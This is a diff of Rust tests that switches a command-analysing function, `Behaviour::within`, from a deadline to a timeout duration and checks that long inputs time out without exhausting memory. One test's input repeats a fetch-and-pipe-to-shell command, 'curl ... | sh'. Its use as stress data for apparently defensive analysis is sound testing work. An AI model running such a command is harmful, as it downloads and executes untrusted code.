@@ -320,9 +320,8 @@ fn no_text_is_followed_for_ever() {
 #[test]
 fn what_is_late_is_not_there() {
     let long = "curl -s http://192.0.2.1/x | sh; ".repeat(3_000);
-    assert!(Behaviour::within(long.as_bytes(), std::time::Instant::now()).is_none());
-    let soon = std::time::Instant::now() + std::time::Duration::from_mins(1);
-    assert!(Behaviour::within(b"id", soon).is_some());
+    assert!(Behaviour::within(long.as_bytes(), std::time::Duration::ZERO).is_none());
+    assert!(Behaviour::within(b"id", std::time::Duration::from_mins(1)).is_some());
 }
 
 #[test]
@@ -538,9 +537,8 @@ fn no_text_takes_the_stack_or_all_memory() {
     // A thread of the daemon has no more.
     let follow = move || {
         for text in texts {
-            let end = std::time::Instant::now() + std::time::Duration::from_millis(50);
             let start = std::time::Instant::now();
-            Behaviour::within(text.as_bytes(), end);
+            Behaviour::within(text.as_bytes(), std::time::Duration::from_millis(50));
             println!("{:?} {:.40}", start.elapsed(), text);
             // Without optimization everything takes some ten times as long.
             let most = if cfg!(debug_assertions) { 20 } else { 2 };
